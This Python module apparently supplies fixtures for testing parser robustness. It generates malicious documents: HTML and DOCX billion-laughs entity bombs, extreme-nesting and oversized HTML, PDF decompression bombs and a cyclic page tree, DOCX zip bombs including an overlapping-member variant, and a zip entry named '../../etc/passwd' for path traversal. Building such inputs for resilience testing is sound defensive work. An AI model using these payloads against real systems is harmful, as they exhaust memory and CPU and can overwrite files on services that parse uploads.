"""Documents made to do harm: small to send, large or endless to read."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterable
from itertools import pairwise
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

PAGES = 200_000
_LONG = 600_000_000


def attributes() -> bytes:
    """Half a million attributes on one tag."""
    return (
        b"<!doctype html><html><body><p "
        + b" ".join(b"a%d=1" % one for one in range(500_000))
        + b">x</p></body></html>"
    )


def rows() -> bytes:
    return b"<!doctype html><html><body><table>" + b"<tr><td>a</td></tr>" * 300_000 + b"</table></body></html>"


def nested() -> bytes:
    return b"<!doctype html><html><body>" + b"<div>" * 200_000 + b"deep"


def brackets() -> bytes:
    return b"<!doctype html><html><body>" + b"<" * 5_000_000


def line() -> bytes:
    return b"<!doctype html><html><body><p>" + b"word " * 1_600_000 + b"</p></body></html>"


def entities() -> bytes:
    """The billion laughs."""
    return _laughs("html") + b"<html><body><p>A ferry &i; sails.</p></body></html>"


def _laughs(root: str) -> bytes:
    names = "abcdefghi"
    inner = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY a "ha">{inner}]>'.encode()


def _deflated(count: int) -> bytes:
    """So many spaces, packed a piece at a time."""
    packer = zlib.compressobj(9)
    piece = b" " * 1_000_000
    return b"".join([*(packer.compress(piece) for _ in range(count // len(piece))), packer.flush()])


def written_pdf(objects: Iterable[bytes]) -> bytes:
    """A PDF of these objects, of which the first is the catalogue."""
    out, places = io.BytesIO(b"%PDF-1.7\n"), []
    out.seek(0, io.SEEK_END)
    for number, one in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, one))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, start))
    return out.getvalue()


_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<>>>>"


def _stream(data: bytes, filters: bytes) -> bytes:
    return b"<</Length %d/Filter[%s]>>\nstream\n%s\nendstream" % (len(data), filters, data)


def _one_page(data: bytes, filters: bytes) -> bytes:
    return written_pdf([_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", _PAGE, _stream(data, filters)])


def flate() -> bytes:
    return _one_page(_deflated(_LONG), b"/FlateDecode")


def triple_flate() -> bytes:
    return _one_page(zlib.compress(zlib.compress(_deflated(_LONG))), b"/FlateDecode/FlateDecode/FlateDecode")


def cyclic() -> bytes:
    """A tree of pages in which a branch holds itself."""
    return written_pdf(
        [_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>"]
    )


def pages() -> bytes:
    """Many pages of one drawing."""
    kids = b" ".join(b"%d 0 R" % one for one in range(4, PAGES + 4))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 3 0 R>>"
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, PAGES)
    return written_pdf([_CATALOGUE, tree, _stream(zlib.compress(b"0 0 9 9 re f"), b"/FlateDecode"), *[page] * PAGES])


TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType='
    b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_WORD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'


def zipped(members: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(ZipInfo(name), data, ZIP_DEFLATED)  # without the time of day
    return out.getvalue()


def word(document: bytes, *more: tuple[str, bytes]) -> bytes:
    return zipped([("[Content_Types].xml", TYPES), ("word/document.xml", document), *more])


def zip_bomb() -> bytes:
    return word(_WORD % (b"<w:p/>" + b" " * 300_000_000))


def many_members() -> bytes:
    return word(_WORD % b"", *((f"word/media/{one}", b"") for one in range(20_000)))


def word_entities() -> bytes:
    return word(_laughs("w:document") + (_WORD % b"<w:p><w:r><w:t>&i;</w:t></w:r></w:p>"))


def deep_word() -> bytes:
    return word(_WORD % (b"<w:sdt><w:sdtContent>" * 50_000 + b"</w:sdtContent></w:sdt>" * 50_000))


def escaping() -> bytes:
    return word(_WORD % b"", ("../../etc/passwd", b"root"))


def overlapping() -> bytes:
    """Members whose contents are one and the same (Fifield 2019, "A better zip bomb")."""
    data = word(_WORD % b"<w:p/>", ("word/styles.xml", b"<a/>" * 100), ("word/notes.xml", b"<b/>" * 100))
    directory = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", directory + 1)
    third = data.index(b"PK\x01\x02", second + 1)
    place = data[second + 42 : second + 46]  # where the second member begins (APPNOTE.TXT, section 4.3.12)
    assert struct.unpack("<I", place)[0] > 0
    return data[: third + 42] + place + data[third + 46 :]


BOMBS: tuple[Callable[[], bytes], ...] = (
    attributes,
    rows,
    nested,
    brackets,
    line,
    entities,
    flate,
    triple_flate,
    cyclic,
    pages,
    zip_bomb,
    many_members,
    word_entities,
    deep_word,
    escaping,
    overlapping,
)
